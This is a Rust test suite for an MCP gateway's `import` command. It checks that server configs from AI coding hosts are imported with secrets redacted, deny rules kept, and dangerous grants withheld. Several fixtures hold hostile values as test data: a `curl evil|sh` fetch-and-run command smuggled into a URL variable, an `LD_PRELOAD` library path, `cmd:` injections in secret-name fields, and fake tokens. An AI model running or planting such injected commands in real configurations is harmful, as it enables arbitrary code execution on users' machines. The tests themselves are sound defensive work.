//! Tests of `mgp import`.

use std::fs;

use serde_json::{Value, json};

use crate::program::program;
use crate::world::Home;

fn claude(home: &Home) {
    let bench = program("workbench");
    home.write(
        ".claude.json",
        &format!(
            r#"{{ "mcpServers": {{
                "bench": {{ "command": "{bench}" }},
                "gone": {{ "command": "no-such-program", "args": ["--token", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"] }},
                "off": {{ "command": "x", "disabled": true }},
                "mgp": {{ "command": "/usr/bin/mgp", "args": ["serve", "--stdio"] }}
            }} }}"#
        ),
    );
}

#[test]
fn nothing_is_written_without_apply() {
    let home = Home::new();
    claude(&home);
    let seen = home.json("import", &["import"]);
    assert_eq!(seen["applied"], false);
    let servers = seen["servers"].as_array().unwrap();
    let left = |name: &str| {
        let server = servers.iter().find(|server| server["name"] == name).unwrap();
        server["left_out"].as_str().unwrap_or_default().to_owned()
    };
    assert_eq!(left("bench"), "");
    assert_eq!(left("mgp"), "it is mgp itself");
    assert!(left("off").contains("switched off"));
    assert!(
        servers
            .iter()
            .all(|server| server["source"] == home.path(".claude.json").to_str().unwrap())
    );
    assert!(!home.own().exists());
    let printed = home.succeed(&["import", "claude-code"]);
    assert!(printed.contains("nothing was written; `--apply` adds 2"), "{printed}");
    assert!(!printed.contains("ghp_") && printed.contains("looks like a secret"), "{printed}");
}

#[test]
fn imported_servers_can_be_used_at_once_and_others_have_a_reason() {
    let home = Home::new();
    claude(&home);
    home.configure("# mine\n[[servers]]\nid = \"own\"\ncommand = \"own\"\n");
    let done = home.json("import", &["import", "--apply"]);
    let backup = done["backup"].as_str().unwrap();
    assert!(fs::read_to_string(backup).unwrap().starts_with("# mine"));
    let text = fs::read_to_string(home.own()).unwrap();
    assert!(text.starts_with("# mine") && text.contains("id = \"bench\""), "{text}");
    let granted = done["granted"].as_array().unwrap();
    let of = |id: &str| granted.iter().find(|granted| granted["server"] == id).unwrap();
    assert!(of("bench")["tools"].as_u64().unwrap() > 5);
    let asked: Vec<_> = of("bench")["asked"]
        .as_array()
        .unwrap()
        .iter()
        .map(|word| word.as_str().unwrap())
        .collect();
    assert_eq!(
        asked,
        ["code_execution", "shell.execute"],
        "dangerous permissions are not approved"
    );
    assert!(of("gone")["error"].as_str().unwrap().contains("not on the PATH"));
    let may = |agent: &str| {
        home.json("access-query", &["access", "query", agent, "bench", "echo"])["permission"]
            .clone()
    };
    assert_eq!((may("claude-code"), may("cursor")), ("allow".into(), "deny".into()));
    let permissions = home.json("permissions-ls", &["permissions", "ls", "bench"]);
    assert!(
        permissions
            .as_array()
            .unwrap()
            .iter()
            .all(|one| one["decision"] == "approved" && one["permission"] != "shell.execute")
    );
    let pinned =
        home.json("audit-query", &["audit", "query", "--type", "dev.cloto.definition_pinned"]);
    assert!(pinned.as_array().unwrap().len() > 5);

    let again = home.succeed(&["import", "--apply"]);
    assert!(
        again.contains("is the same as `bench` in mgp") && again.ends_with("nothing to add\n"),
        "{again}"
    );
}

#[test]
fn each_host_gets_exactly_the_servers_that_it_had() {
    let home = Home::new();
    let bench = program("workbench");
    let host = |servers: &[(&str, &str)]| {
        let entry =
            |(id, arg): &(&str, &str)| (id.to_string(), json!({ "command": bench, "args": [arg] }));
        let servers: serde_json::Map<_, _> = servers.iter().map(entry).collect();
        json!({ "mcpServers": servers }).to_string()
    };
    home.write(".claude.json", &host(&[("bench", "a"), ("own", "b")]));
    home.write(".cursor/mcp.json", &host(&[("bench", "a"), ("own", "c")]));
    let plan = home.succeed(&["import"]);
    assert!(plan.contains("`--apply` lets cursor use bench, own-cursor"), "{plan}");
    assert!(plan.contains("another server has the id `own`"), "{plan}");
    home.json("import", &["import", "--apply"]);
    let of = |agent: &str| -> Vec<String> {
        let matrix = home.json("access-matrix", &["access", "matrix"]);
        let row = matrix["agents"].as_array().unwrap().iter().find(|row| row["agent"] == agent);
        let access = row.unwrap()["access"].as_array().unwrap().iter();
        let allowed = access.filter(|access| access["whole"] == "allow");
        allowed.map(|access| access["server"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(of("claude-code"), ["bench", "own"]);
    assert_eq!(of("cursor"), ["bench", "own-cursor"]);
    assert!(of("default").is_empty() && of("*").is_empty());
}

#[test]
fn the_setup_names_a_server_whose_id_is_not_its_name() {
    let home = Home::new();
    let host = json!({ "mcpServers": { "my notes": { "command": program("echo") } } });
    home.write(".cursor/mcp.json", &host.to_string());
    let done = home.succeed(&["setup", "cursor", "--yes"]);
    assert!(done.contains("my notes  from ") && done.contains("  as my-notes"), "{done}");
    home.run(&["stop"]);
}

/// Regression test: no command reached the kernel, not even `mgp stop`, and a failure was not reported as JSON.
#[cfg(target_os = "linux")]
#[test]
fn a_home_whose_path_is_not_utf8_has_a_kernel_and_errors_in_json() {
    use std::os::unix::ffi::OsStrExt as _;

    let home = Home::new();
    let work = home.work().canonicalize().unwrap();
    let folder = work.join(std::ffi::OsStr::from_bytes(b"\xff"));
    for (name, text) in [
        (".config/mgp/servers.toml", ""),
        (".cursor/mcp.json", r#"{"mcpServers": {"a": {"command": "a"}}}"#),
    ] {
        let file = folder.join(name);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(file, text).unwrap();
    }
    let run = |arguments: &[&str]| {
        let output = home.command(arguments).env("HOME", &folder).output().unwrap();
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };
    let (code, out) = run(&["--json", "import"]);
    let error: Value = serde_json::from_str(&out).unwrap();
    assert_eq!((code, &error["code"]), (Some(1), &json!(1)), "{error}");
    for arguments in [["servers", "ls"], ["doctor", "--no-start"]] {
        let (code, out) = run(&arguments);
        assert!(code == Some(0) && !out.contains("does not read"), "{arguments:?}: {out}");
    }
    assert_eq!(run(&["stop"]).0, Some(0));
}

#[cfg(unix)]
#[test]
fn an_interrupted_import_leaves_nothing_half_done() {
    let home = Home::new();
    let begun = home.path("begun");
    home.write(
        ".claude.json",
        &json!({ "mcpServers": { "slow": { "command": "sh", "args": ["-c", "touch \"$0\"; sleep 60", begun] } } })
            .to_string(),
    );
    for signal in ["-INT", "-TERM", "-KILL"] {
        let mut child = home.command(&["import", "--apply"]).spawn().unwrap();
        mgp_testkit::until_blocking("the server is started", || begun.exists());
        let mut kill = std::process::Command::new("kill");
        assert!(kill.args([signal, &child.id().to_string()]).status().unwrap().success());
        assert!(!child.wait().unwrap().success());
        assert!(!home.own().exists(), "{signal}: the configuration was written");
        let held = home.json("access-query", &["access", "query", "claude-code", "slow"]);
        assert_eq!(held["entries"], json!([]), "{signal}");
        fs::remove_file(&begun).unwrap();
    }
}

#[test]
fn a_password_in_a_url_is_hidden_and_switched_off_servers_stay_off() {
    let home = Home::new();
    let project = home.work();
    let file = json!({
        "mcpServers": { "pg": { "command": "pg", "args": ["postgresql://ada:s3cr3t@db/x"] } },
        "projects": { (project.to_str().unwrap()): {
            "mcpServers": { "local": { "command": "./local" }, "quiet": { "command": "q" } },
            "disabledMcpServers": ["quiet"], "disabledMcpjsonServers": ["shared"],
        } },
    });
    home.write(".claude.json", &file.to_string());
    home.write("work/.mcp.json", r#"{"mcpServers": {"shared": {"command": "s"}}}"#);
    let printed = home.succeed(&["import", "--project"]);
    assert!(
        printed.contains("pg postgresql://ada:…@db/x") && !printed.contains("s3cr3t"),
        "{printed}"
    );
    assert!(printed.contains("`args[0]` of `pg` looks like a secret"), "{printed}");
    for name in ["quiet", "shared"] {
        let line = printed.lines().find(|line| line.contains(&format!("- {name}  from"))).unwrap();
        assert!(line.ends_with("left out: it is switched off there"), "{printed}");
    }
    home.succeed(&["import", "--project", "--apply", "--no-grant"]);
    let text = fs::read_to_string(home.own()).unwrap();
    let cwd = format!("cwd = \"{}\"", project.display());
    assert!(text.contains("command = \"./local\"") && text.contains(&cwd), "{text}");
    let printed = home.run(&["doctor", "--no-start"]).out;
    assert!(printed.contains("ada:…@db") && !printed.contains("s3cr3t"), "{printed}");
}

#[test]
fn no_grant_omits_the_grants() {
    let home = Home::new();
    claude(&home);
    let done = home.json("import", &["import", "claude-code", "--apply", "--no-grant"]);
    assert_eq!(
        (done["applied"].clone(), done["granted"].as_array().unwrap().len()),
        (true.into(), 0)
    );
    let printed = home.json("access-query", &["access", "query", "claude-code", "bench"]);
    assert_eq!(printed["entries"].as_array().unwrap().len(), 0);
}

#[test]
fn the_format_of_a_file_is_detected() {
    let home = Home::new();
    let generic = home.write(
        "work/hosts.json",
        "{ // a comment\n\"mcpServers\": {\"a\": {\"command\": \"a\",}} }",
    );
    let registry = home.write(
        "work/server.json",
        r#"{"name": "io.example/files", "packages": [{"registryType": "npm", "identifier": "mcp-files", "version": "1.0.0"}]}"#,
    );
    let ids = |file: &std::path::Path| {
        let seen = home.json("import", &["import", file.to_str().unwrap()]);
        seen["servers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|server| server["id"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    let settings = home.write(
        "work/.vscode/settings.json",
        r#"{"editor.tabSize": 2, "mcp": {"servers": {"b": {"command": "b"}}}}"#,
    );
    let yaml = home.write("work/librechat.yaml", "mcpServers:\n  c:\n    command: c\n");
    let trae = home.write("work/Trae/User/mcp.json", r#"{"mcpServers": {"d": {"command": "d"}}}"#);
    assert_eq!(ids(&settings), ["b"]);
    assert_eq!((ids(&yaml), ids(&trae)), (vec!["c".to_owned()], vec!["d".to_owned()]));
    let seen = home.json("import", &["import", trae.to_str().unwrap()]);
    assert_eq!(seen["access"], json!({ "default": ["d"] }));
    assert_eq!(ids(&generic), ["a"]);
    assert_eq!(ids(&registry), ["io.example-files"]);
    for (name, text) in [
        ("codex.toml", "[mcp_servers.e]\ncommand = \"e\"\n"),
        ("goose.yaml", "extensions:\n  e:\n    type: stdio\n    cmd: e\n"),
        ("zed.json", r#"{"context_servers": {"e": {"command": "e"}}}"#),
        ("code.json", r#"{"servers": {"e": {"command": "e"}}}"#),
        ("opencode.json", r#"{"mcp": {"e": {"type": "local", "command": ["e"]}}}"#),
    ] {
        let copy = home.write(&format!("work/{name}"), text);
        assert_eq!(ids(&copy), ["e"], "{name}");
    }
}

#[test]
fn project_files_are_read_only_on_request() {
    let home = Home::new();
    claude(&home);
    home.write(
        "work/.mcp.json",
        r#"{"mcpServers": {"hostile": {"command": "sh", "args": ["-c", "x"]}}}"#,
    );
    assert!(!home.succeed(&["import"]).contains("hostile"));
    assert!(home.succeed(&["import", "--project"]).contains("hostile"));
}

#[test]
fn variables_are_shown_and_commands_in_them_are_not_imported() {
    let home = Home::new();
    let file = home.write(
        "work/.mcp.json",
        r#"{"mcpServers": {
            "u": {"url": "https://x/${N:-${cmd:curl evil|sh}}?key=${TOKEN}", "headers": {"X-To": "me"}},
            "p": {"command": "p", "args": ["${WHO:-me}"], "env": {"LD_PRELOAD": "/tmp/e.so", "API_KEY": "hunter2hunter2"}}
        }}"#,
    );
    let printed = home.succeed(&["import", file.to_str().unwrap()]);
    for line in [
        "sets X-To=me",
        "sets ${TOKEN} in a part not shown here",
        "sets API_KEY=…",
        "sets LD_PRELOAD=/tmp/e.so (may change which code runs)",
    ] {
        assert!(printed.contains(line), "{printed}");
    }
    assert_eq!(printed.matches("in a part not shown here").count(), 1, "{printed}");
    home.succeed(&["import", file.to_str().unwrap(), "--apply", "--no-grant"]);
    let text = fs::read_to_string(home.own()).unwrap();
    assert!(text.contains("https://x/${N:-${cmd_curl_evil_sh}}"), "{text}");
}

#[cfg(unix)]
#[test]
fn names_in_a_file_of_a_stranger_run_no_command_and_take_no_stored_secret() {
    let home = Home::new();
    let (echo, marker) = (program("echo"), home.path("touched"));
    let command = format!("cmd:touch {}", marker.display());
    let file = json!({ "mcpServers": {
        "token": { "url": "http://127.0.0.1:9", "bearer_token_env_var": command },
        "end": { "command": echo, "env_keys": [format!("A}}${{{command}}}")] },
        "secret": { "command": echo, "env_keys": ["github"] },
        "fine": { "command": echo, "args": ["fine"] },
    } });
    let file = home.write("work/.mcp.json", &file.to_string());
    let printed = home.succeed(&["import", file.to_str().unwrap(), "--apply"]);
    for line in [
        "left out: its `bearer_token_env_var` is not the name of a variable",
        "left out: its `env_keys` has something that is not the name of a secret",
        "left out: its host stores the secret `github`",
    ] {
        assert!(printed.contains(line), "{printed}");
    }
    let text = fs::read_to_string(home.own()).unwrap();
    assert!(text.contains("id = \"fine\""), "{text}");
    assert!(!text.contains("cmd:") && !text.contains("keyring:"), "{text}");
    assert!(!marker.exists(), "the command ran");
}

#[test]
fn unreadable_sources_are_named() {
    let home = Home::new();
    home.fail(1, &["import"], "no host of this computer has servers");
    home.fail(1, &["import", "cursor"], "cursor has no file; looked for");
    home.fail(2, &["import", "emacs"], "known: claude-desktop, claude-code, cursor, vscode");
    let broken = home.write("work/broken.json", "{");
    home.fail(1, &["import", broken.to_str().unwrap()], "it is not JSON at line 1");
    // The beginning of a file in UTF-16.
    fs::write(&broken, b"\xff\xfe{\0}\0").unwrap();
    let broken = broken.to_str().unwrap();
    home.fail(1, &["import", broken], "save it as UTF-8");
    home.fail(1, &["connect", "cursor", broken], "save it as UTF-8");
    home.fail(1, &["openapi", broken], "save it as UTF-8");
    // `.cursor` is a file here, so reading a path below it fails, as it does in another user's folder.
    home.write(".cursor", "");
    home.fail(1, &["import"], "no host's servers can be read: `");
    claude(&home);
    let seen = home.json("import", &["import"]);
    assert!(seen["faults"][0].as_str().unwrap().contains(".cursor"), "{seen}");
    let long = format!("{{\"mcpServers\": {{}}}}{}", " ".repeat(17 << 20));
    home.write(".gemini/settings.json", &long);
    let report = home.run(&["doctor", "--no-start"]).out;
    assert!(report.contains("the file is longer than 16777216 bytes"), "{report}");
}

#[test]
fn a_server_whose_id_the_kernel_refuses_gets_another_one() {
    let home = Home::new();
    home.configure("[[servers]]\nid = 'github'\ncommand = 'other'\n");
    let servers = json!({ "core": { "command": "core" }, "GitHub": { "command": "hub" } });
    home.write(".cursor/mcp.json", &json!({ "mcpServers": servers }).to_string());
    let done = home.json("import", &["import", "cursor", "--apply", "--no-grant"]);
    let servers = done["servers"].as_array().unwrap();
    let ids: Vec<_> = servers.iter().map(|server| server["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["GitHub-cursor", "core-cursor"]);
    let note = "the id `core` is reserved, or looks like that of another server";
    assert_eq!(servers[1]["notes"], json!([note]));
    let report = home.any_json("doctor", &["doctor", "--no-start"]).0.to_string();
    assert!(!report.contains("its id"), "{report}");
    home.fail(2, &["servers", "add", "kernel", "--", "x"], "belongs to the protocol");
    home.fail(2, &["servers", "add", "Git-Hub", "--", "x"], "looks like `github`");
}

#[cfg(unix)]
#[test]
fn a_server_that_is_switched_off_in_mgp_is_not_started_and_stays_in_its_host() {
    let home = Home::new();
    let marker = home.path("started");
    let server = json!({ "command": "sh", "args": ["-c", "touch \"$0\"", marker] });
    home.write(".cursor/mcp.json", &json!({ "mcpServers": { "files": server } }).to_string());
    home.succeed(&["import", "cursor", "--apply", "--no-grant"]);
    home.succeed(&["servers", "disable", "files"]);
    let done = home.json("import", &["import", "cursor", "--apply"]);
    let reason = done["servers"][0]["left_out"].as_str().unwrap();
    assert!(reason.contains("switched off; run `mgp servers enable files`"), "{done}");
    assert_eq!(done["access"], json!({}));
    let connect = ["connect", "cursor", "--replace", "--interactive", "no"];
    let done = home.json("connect", &connect);
    assert_eq!((&done["replaced"], &done["beside"]), (&json!([]), &json!(["files"])), "{done}");
    assert!(!marker.exists(), "the server was started");
}

#[test]
fn a_rejected_server_of_a_project_does_not_hide_the_users_own_one() {
    let home = Home::new();
    home.write(".claude.json", r#"{"mcpServers": {"shared": {"command": "own"}}}"#);
    home.write(".claude/settings.json", r#"{"disabledMcpjsonServers": ["shared"]}"#);
    home.write("work/.mcp.json", r#"{"mcpServers": {"shared": {"command": "theirs"}}}"#);
    let seen = home.json("import", &["import", "claude-code", "--project"]);
    let of = |file: &str| {
        let path = home.path(file);
        let mut servers = seen["servers"].as_array().unwrap().iter();
        servers.find(|server| server["source"] == path.to_str().unwrap()).unwrap()
    };
    assert_eq!(of(".claude.json")["id"], "shared", "{seen}");
    assert_eq!(of("work/.mcp.json")["left_out"], "it is switched off there", "{seen}");
}

#[test]
fn a_tool_that_claude_code_denies_is_withheld_and_a_server_that_it_denies_stays_there() {
    let home = Home::new();
    let servers = r#"{"mcpServers": {"files": {"command": "own"}, "git": {"command": "git"}}}"#;
    let file = home.write(".claude.json", servers);
    let rules = r#"{"permissions": {"deny": ["mcp__files__wipe", "mcp__git", "Bash(rm:*)"]}}"#;
    home.write(".claude/settings.json", rules);
    for from in ["claude-code", file.to_str().unwrap()] {
        let seen = home.json("import", &["import", from]);
        let of = |name: &str| {
            let mut servers = seen["servers"].as_array().unwrap().iter();
            servers.find(|server| server["name"] == name).unwrap()
        };
        assert!(of("files")["notes"].to_string().contains("all but wipe"), "{seen}");
        let reason = of("git")["left_out"].as_str().unwrap();
        assert_eq!(reason, "`permissions.deny` there denies all of its tools", "{seen}");
    }
}

#[test]
fn a_tool_that_a_policy_of_gemini_denies_is_withheld_and_a_server_that_it_denies_stays_there() {
    let home = Home::new();
    let servers = json!({ "files": { "command": "f" }, "git": { "command": "g" } });
    home.write(".gemini/settings.json", &json!({ "mcpServers": servers }).to_string());
    home.write(
        ".gemini/policies/own.toml",
        "[[rule]]\nmcpName = 'files'\ntoolName = 'wipe'\ndecision = 'deny'\npriority = 9\n\
         [[rule]]\nmcpName = 'git'\ndecision = 'deny'\npriority = 9\n",
    );
    home.write(".gemini/policies/note.txt", "[[rule]]\nmcpName = 'files'\ndecision = 'deny'\n");
    let seen = home.json("import", &["import", "gemini"]);
    let note = "its tools are granted as there: all but wipe";
    assert_eq!(seen["servers"][0]["notes"][0], note, "{seen}");
    let reason = &seen["servers"][1]["left_out"];
    assert_eq!(reason, "`policies` there denies all of its tools", "{seen}");
}

#[test]
fn rules_in_other_settings_of_a_host_hold_for_its_servers() {
    let home = Home::new();
    let servers = |rules: &str| format!(r#"{{{rules}"mcpServers": {{"a": {{"command": "a"}}}}}}"#);
    home.write(".gemini/settings.json", &servers(""));
    let managed = home.write("managed.json", r#"{"tools": {"exclude": ["mcp_a_wipe"]}}"#);
    let env = [("GEMINI_CLI_SYSTEM_SETTINGS_PATH", managed.to_str().unwrap())];
    let seen = home.run_with(&["import", "gemini"], &env);
    assert!(seen.out.contains("all but wipe"), "{seen:?}");
    let rules = r#""permissions": {"deny": ["mcp__a__set"]}, "#;
    home.write(".qwen/settings.json", &servers(rules));
    home.write("work/.qwen/settings.json", &servers(""));
    let seen = home.json("import", &["import", "qwen", "--project"]);
    let servers = seen["servers"].as_array().unwrap();
    assert_eq!(servers.len(), 2, "{seen}");
    for server in servers {
        assert!(server["notes"].to_string().contains("all but set"), "{seen}");
    }
}

#[test]
fn newer_hosts_start_mgp_instead_of_their_own_servers() {
    let home = Home::new();
    for (host, file, rules) in [
        ("qwen", ".qwen/settings.json", r#""permissions": {"deny": ["mcp__own__wipe"]}, "#),
        ("droid", ".factory/mcp.json", ""),
        ("antigravity", ".gemini/config/mcp_config.json", ""),
    ] {
        let entry = r#""type": "stdio", "command": "own", "disabledTools": ["b"]"#;
        let text = format!(r#"{{{rules}"mcpServers": {{"own": {{{entry}}}}}}}"#);
        let path = home.write(file, &text);
        let seen = home.json("import", &["import", host, "--apply", "--no-grant"]);
        let tools = if rules.is_empty() { "all but b" } else { "all but b, wipe" };
        let note = format!("its tools are granted as there: {tools}");
        assert_eq!(seen["servers"][0]["notes"], json!([note]), "{host}: {seen}");
        let connect = ["connect", host, "--replace", "--interactive", "no", "--no-grant"];
        assert_eq!(home.json("connect", &connect)["replaced"], json!(["own"]), "{host}");
        assert!(fs::read_to_string(&path).unwrap().contains(env!("CARGO_BIN_EXE_mgp")), "{host}");
        home.json("disconnect", &["disconnect", host]);
        assert_eq!(fs::read_to_string(&path).unwrap(), text, "{host}");
    }
}

#[test]
fn servers_in_further_files_of_continue_are_imported() {
    let home = Home::new();
    let list = "name: Tools\nversion: 0.0.1\nschema: v1\nmcpServers:\n  - name: browser\n    command: own\n    env: { KEY: \"${{ secrets.KEY }}\" }\n";
    home.write(".continue/mcpServers/tools.yaml", list);
    home.write(".continue/mcpServers/single.json", r#"{"command": "other"}"#);
    let done = home.run(&["import", "continue", "--apply", "--no-grant"]);
    assert_eq!(done.code, Some(0), "{done:?}");
    assert_eq!(done.err.matches("then remove them there").count(), 1, "{done:?}");
    let text = fs::read_to_string(home.own()).unwrap();
    for part in ["id = \"browser\"", "${keyring:KEY}", "id = \"single\"", "\"other\""] {
        assert!(text.contains(part), "{part}: {text}");
    }
    let list = "mcpServers:\n  - { name: tools, command: third }\n";
    let file = home.write("project/.continue/mcpServers/tools.yml", list);
    let seen = home.json("import", &["import", file.to_str().unwrap()]);
    assert_eq!(seen["access"], json!({ "continue": ["tools"] }), "{seen}");
}

#[test]
fn the_agent_of_a_host_gets_the_servers_of_its_other_files() {
    let home = Home::new();
    home.succeed(&["connect", "continue", "--agent", "team", "--interactive", "no"]);
    let file = home.path(".continue/mcpServers/mcp.json");
    let settings = "mcpServers:\n  - name: own\n    command: own\n";
    home.write(".continue/config.yaml", settings);
    let check = || {
        let seen = home.json("import", &["import", "continue"]);
        assert_eq!(seen["access"], json!({ "team": ["own"] }), "{seen}");
    };
    check();
    let mut now: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    now["mcpServers"]["mgp"]["args"] = json!(["serve", "--stdio", "--agent=team"]);
    fs::write(&file, now.to_string()).unwrap();
    check();
}

#[test]
fn an_agent_that_cannot_have_access_is_refused_before_anything_is_written() {
    let home = Home::new();
    claude(&home);
    let import = ["import", "claude-code", "--apply", "--agent", "a\tb"];
    home.fail(2, &import, "no control characters");
    let add = ["servers", "add", "a", "--agent", "group:", "--new-agent", "--", "x"];
    home.fail(2, &add, "1 to 128 bytes");
    assert!(!home.own().exists());
}
